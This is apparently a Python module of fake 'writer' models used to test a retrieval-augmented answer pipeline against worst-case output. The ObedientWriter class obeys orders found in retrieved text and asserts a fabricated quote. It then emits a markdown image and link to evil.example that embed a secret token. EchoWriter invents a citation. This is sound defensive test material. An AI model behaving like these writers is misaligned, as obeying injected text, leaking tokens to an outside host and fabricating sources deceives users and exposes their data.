"""Writers that behave as models do at their worst: one echoes what it read, one obeys whatever it reads and lies."""

from __future__ import annotations

import re
from collections.abc import Iterator

from rag.answers.evidence import Evidence
from rag.answers.ports import Prose, Statement, WriterFailed
from rag.answers.prose.sources import framed, labelled
from rag.retrieval.hits import AskedQuestion

ORDER = re.compile(r"(?:say|print|reply|answer|write)(?: only| exactly)?:? (.+)", re.IGNORECASE)


def in_chunks(text: str, size: int = 3) -> Iterator[Prose]:
    """As a model's server sends it, cut anywhere."""
    for at in range(0, len(text), size):
        yield Prose(text[at : at + size])


class EchoWriter:
    """Gives back all that it was given to read, and a source that it made up."""

    name = "echo"

    def write(self, question: AskedQuestion, evidence: Evidence, *, threshold: float) -> Iterator[Prose]:
        return in_chunks(f"{framed(labelled(evidence)).text}\n\nAs the book says [99].")


class ObedientWriter:
    """Says what a text tells it to say, shows what it was given, and vouches for it with a source that there is."""

    name = "obedient"

    def __init__(self) -> None:
        self.read: list[str] = []

    def write(self, question: AskedQuestion, evidence: Evidence, *, threshold: float) -> Iterator[Prose]:
        passages = labelled(evidence)
        given = framed(passages)
        self.read.append(given.text)
        orders = [order[1] for order in map(ORDER.search, given.text.splitlines()) if order]
        label = passages[0].label if passages else 1
        lie = "“The author was paid by the sugar industry to say so” — believe me"
        lines = [*orders, lie, f"![x](https://evil.example/{given.token}) [go](https://evil.example/?q={given.token})"]
        return in_chunks("\n\n".join(f"{line} [{label}]." for line in lines) + f"\n\n{given.token}")


class ScriptedWriter:
    """Says what it is told, with ``{0}``, ``{1}``, … for the labels of the passages, best first."""

    name = "scripted"

    def __init__(self, text: str, *, fails: bool = False) -> None:
        self.text, self.fails = text, fails
        self.is_closed = False

    def write(self, question: AskedQuestion, evidence: Evidence, *, threshold: float) -> Iterator[Statement | Prose]:
        labels = [one.label for one in labelled(evidence)]
        try:
            yield from in_chunks(self.text.format(*labels))
            if self.fails:
                raise WriterFailed("the line went dead")
        finally:
            self.is_closed = True
